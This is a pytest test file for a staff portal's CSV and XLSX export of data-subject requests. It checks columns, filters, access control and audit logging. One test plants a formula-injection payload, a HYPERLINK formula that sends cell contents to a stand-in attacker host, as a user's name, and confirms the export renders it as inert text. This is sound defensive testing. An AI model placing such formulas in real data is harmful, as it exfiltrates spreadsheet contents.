"""The register of requests (issue 13, item 2): CSV and XLSX of the queue as filtered, read back
and checked against requests built in known states; formula-safe; staff only; on the audit trail.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import openpyxl
import pytest
from sqlalchemy import select

from portal.models import AuditEvent, RequestKind, Role, SubjectRequest
from tests.integration.conftest import STAFF_PASSWORD, ticket
from tests.integration.pages import query_plans

HEADER = [
    "Reference",
    "Type",
    "Channel",
    "Received",
    "Confirmed",
    "Due",
    "Extended to",
    "Paused days",
    "Status",
    "Outcome",
    "Closed",
    "Days taken",
    "On time",
    "Assignee",
    "Identity decision",
]


@pytest.fixture
def contact(make_user):
    # In English, so the register's words are the catalog's own (the msgids).
    return make_user(
        email="ville@wprod.fi",
        name="Ville Kärpijoki",
        role=Role.STAFF,
        password=STAFF_PASSWORD,
        locale="en",
    )


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200, response.status_code
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeff")  # for Excel's sake
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows[0] == HEADER
    return [dict(zip(HEADER, row, strict=True)) for row in rows[1:]]


def xlsx_rows(response) -> tuple[list[dict], list[list]]:
    assert response.status_code == 200, response.status_code
    assert response.mimetype.endswith("spreadsheetml.sheet")
    data = response.get_data()
    response.close()  # as a WSGI server does: the temporary file is closed and gone
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.active
    cells = list(sheet.iter_rows())
    assert [c.value for c in cells[0]] == HEADER
    rows = [
        dict(zip(HEADER, [c.value for c in row] + [None] * (len(HEADER) - len(row)), strict=True))
        for row in cells[1:]
    ]
    return rows, cells


def queue_references(page: str) -> list[str]:
    return re.findall(r'<td class="ref"[^>]*><a [^>]*>([^<]+)</a>', page)


def reference_of(db, request_id: int) -> str:
    query = select(SubjectRequest.reference).where(SubjectRequest.id == request_id)
    return db.session.scalar(query)


@pytest.fixture
def known(staff_client, make_request, db):
    """Requests in known states, by name: their ids."""
    ids = {
        "fresh": make_request(kind=RequestKind.ACCESS, received_days_ago=10),
        "overdue": make_request(received_days_ago=40),
        "waiting": make_request(kind=RequestKind.RECTIFICATION, received_days_ago=3),
        "extended": make_request(kind=RequestKind.ACCESS, received_days_ago=20),
        "refused": make_request(received_days_ago=5),
        "unconfirmed": make_request(confirmed=False),
    }
    ticket(
        staff_client,
        ids["waiting"],
        "ask",
        {"body": "Kerro asiakasnumerosi.", "purpose": "identity"},
    )
    assert (
        ticket(
            staff_client,
            ids["extended"],
            "extend",
            {"months": "3", "reason": "Tiedot on haettava kolmesta järjestelmästä."},
        ).status_code
        == 302
    )
    assert (
        ticket(
            staff_client,
            ids["refused"],
            "resolve",
            {"outcome": "refused", "reasons": "Laskut on säilytettävä kirjanpitolain nojalla."},
        ).status_code
        == 302
    )
    return ids


def test_csv_register_holds_the_queue_with_every_column(staff_client, known, db):
    register = csv_rows(staff_client.get("/staff/register/queue.csv"))
    rows = {row["Reference"]: row for row in register}
    in_queue = {reference_of(db, known[n]) for n in ("fresh", "overdue", "waiting", "extended")}
    assert set(rows) == in_queue  # not the closed, not the unconfirmed

    fresh = db.session.get(SubjectRequest, known["fresh"])
    row = rows[fresh.reference]
    assert row["Type"] == "See your data"
    assert row["Channel"] == "The portal"
    assert row["Due"] == fresh.due_on.isoformat()
    assert row["Extended to"] == ""
    assert row["Paused days"] == "0"
    assert row["Status"] == "In progress"
    assert row["Outcome"] == row["Closed"] == row["Days taken"] == row["On time"] == ""
    assert row["Assignee"] == "Ville Kärpijoki"
    assert row["Identity decision"] == "Confirmed by staff another way"
    assert row["Received"] < row["Confirmed"]  # received 10 days ago, confirmed today

    overdue = rows[reference_of(db, known["overdue"])]
    assert overdue["On time"] == "no"  # already late, though not answered

    waiting = rows[reference_of(db, known["waiting"])]
    assert waiting["Status"] == "Waiting for the requester"

    extended = db.session.get(SubjectRequest, known["extended"])
    assert rows[extended.reference]["Extended to"] == extended.due_on.isoformat()


def test_closed_register_says_how_and_how_fast(staff_client, known, db):
    rows = csv_rows(staff_client.get("/staff/register/closed.csv"))
    refused = db.session.get(SubjectRequest, known["refused"])
    assert [row["Reference"] for row in rows] == [refused.reference]
    row = rows[0]
    assert row["Status"] == "Answered"
    assert row["Outcome"] == "Refused"
    assert row["Days taken"] == "5"
    assert row["On time"] == "yes"
    assert row["Closed"] == row["Confirmed"]  # both today


def test_paused_days_count_a_past_pause(staff_client, known, db, app):
    """A pause asked four days ago and answered two days ago suspended two days."""
    from portal.extensions import db as portal_db
    from portal.models import RequestPause, utcnow

    with app.app_context():
        pause = portal_db.session.scalar(
            select(RequestPause).where(RequestPause.request_id == known["waiting"])
        )
        pause.asked_at = utcnow() - timedelta(days=4)
        pause.resumed_at = utcnow() - timedelta(days=2)
        portal_db.session.commit()
    rows = csv_rows(staff_client.get("/staff/register/queue.csv"))
    row = next(r for r in rows if r["Reference"] == reference_of(db, known["waiting"]))
    assert row["Paused days"] == "2"


def test_xlsx_register_equals_the_csv(staff_client, known):
    csv_register = csv_rows(staff_client.get("/staff/register/queue.csv?sort=reference"))
    xlsx_register, cells = xlsx_rows(staff_client.get("/staff/register/queue.xlsx?sort=reference"))
    assert [r["Reference"] for r in xlsx_register] == [r["Reference"] for r in csv_register]
    for from_csv, from_xlsx in zip(csv_register, xlsx_register, strict=True):
        for column in HEADER:
            value = from_xlsx[column]
            if hasattr(value, "date"):
                value = value.date().isoformat()  # a real date cell, not text
            assert ("" if value is None else str(value)) == from_csv[column], column
    # Dates are dates and counts are numbers, so a spreadsheet sorts and sums them.
    due_cell = cells[1][HEADER.index("Due")]
    assert due_cell.is_date
    assert isinstance(cells[1][HEADER.index("Paused days")].value, int)


def test_filtered_export_equals_the_filtered_queue(staff_client, known, make_request, db):
    for _ in range(3):
        make_request(kind=RequestKind.ACCESS)
    for query in ("kind=access", "due=overdue", "kind=access&sort=-received", "q=henkilo1", ""):
        page = staff_client.get(f"/staff/?{query}").get_data(as_text=True)
        exported = csv_rows(staff_client.get(f"/staff/register/queue.csv?{query}"))
        shown = queue_references(page)
        assert shown, query
        # The same requests in the same order (the page holds the first 25 of them).
        assert [row["Reference"] for row in exported][: len(shown)] == shown, query


def test_register_is_formula_safe(staff_client, known, make_user, db, app):
    """A staff member's name is typed by someone; in the register it stays text."""
    sneaky = make_user(
        email="kaappari@wprod.fi", name='=HYPERLINK("http://evil.example/?"&A1)', role=Role.STAFF
    )
    from portal.extensions import db as portal_db
    from portal.models import User

    with app.app_context():
        subject_request = portal_db.session.get(SubjectRequest, known["fresh"])
        subject_request.assignee = portal_db.session.get(User, sneaky.id)
        portal_db.session.commit()
    rows = csv_rows(staff_client.get("/staff/register/queue.csv"))
    cell = next(r for r in rows if r["Reference"] == reference_of(db, known["fresh"]))["Assignee"]
    assert cell == "'" + sneaky.name

    _rows, cells = xlsx_rows(staff_client.get("/staff/register/queue.xlsx"))
    column = HEADER.index("Assignee")
    sneaky_cells = [row[column] for row in cells[1:] if row[column].value == sneaky.name]
    assert len(sneaky_cells) == 1
    assert sneaky_cells[0].data_type == "s"  # a string, not a formula ("f")


def test_export_is_audited_with_filter_and_row_count(staff_client, known, db, contact):
    staff_client.get("/staff/register/queue.csv?kind=access&assignee=me")
    staff_client.get("/staff/register/closed.xlsx").close()
    events = db.session.scalars(
        select(AuditEvent).where(AuditEvent.action == "register.exported").order_by(AuditEvent.id)
    ).all()
    assert [e.details["format"] for e in events] == ["csv", "xlsx"]
    assert events[0].actor_id == contact.id
    assert events[0].details["view"] == "queue"
    assert events[0].details["filters"] == {"kind": "access", "assignee": "me"}
    assert events[0].details["rows"] == 2  # fresh and extended are access requests
    assert events[1].details["rows"] == 1


def test_export_is_for_staff_only(client, make_user, login, make_request):
    make_request()
    assert client.get("/staff/register/queue.csv").status_code == 302  # to sign in
    make_user(email="utelias@example.fi")
    login("utelias@example.fi")
    for url in ("/staff/register/queue.csv", "/staff/register/closed.xlsx"):
        assert client.get(url).status_code == 403


def test_unknown_views_formats_and_bad_filters(staff_client, known):
    assert staff_client.get("/staff/register/everything.csv").status_code == 404
    assert staff_client.get("/staff/register/queue.pdf").status_code == 404
    # A search the database cannot run finds nothing, as on the page.
    assert csv_rows(staff_client.get("/staff/register/queue.csv?q=%00x")) == []
    assert csv_rows(staff_client.get("/staff/register/queue.csv?q=" + "x" * 201)) == []
    # A sort key that is not one of the columns falls back to the due date.
    rows = csv_rows(staff_client.get("/staff/register/queue.csv?sort=password_hash"))
    assert [r["Due"] for r in rows] == sorted(r["Due"] for r in rows)


def test_export_reads_in_batches_without_a_query_per_row(
    app, staff_client, make_request, monkeypatch
):
    """Batches of 2 over 7 requests: every row right across batch boundaries, and the number
    of statements grows with the batches, not with the rows."""
    from sqlalchemy import event

    from portal.extensions import db as portal_db
    from portal.web.staff import export

    for days in range(7):
        make_request(received_days_ago=days)
    monkeypatch.setattr(export, "BATCH", 2)
    with app.app_context():
        engine = portal_db.engine
    statements = []

    def count(*args):
        statements.append(args[2])

    event.listen(engine, "before_cursor_execute", count)
    try:
        rows = csv_rows(staff_client.get("/staff/register/queue.csv"))
    finally:
        event.remove(engine, "before_cursor_execute", count)
    assert len(rows) == 7
    assert all(r["Identity decision"] for r in rows)
    pause_reads = [s for s in statements if "FROM request_pause" in s]
    assert len(pause_reads) == 4  # ceil(7 / 2) batches


def test_identity_decisions_are_read_by_request_and_action(app, db_backend):
    """A batch's identity decisions come from the (request_id, action) index: by the request
    index alone the database read every event of each request (issue 14: 27 ms a batch of
    1,000, a third of an export of 80,000 requests)."""
    from portal.web.staff import export

    if db_backend.startswith("postgresql"):
        # PostgreSQL weighs the two indexes by the table's statistics, which an empty table has
        # none of; SQLite's planner, without statistics, is the one that must be given the index.
        pytest.skip("PostgreSQL chooses by statistics")
    with app.test_request_context():
        plans = query_plans(app, lambda: export._decisions_of([1, 2, 3]), "audit_event")
    assert len(plans) == 1
    assert any(
        "ix_audit_event_request_id_action (request_id=? AND action=?)" in line for line in plans[0]
    ), plans[0]
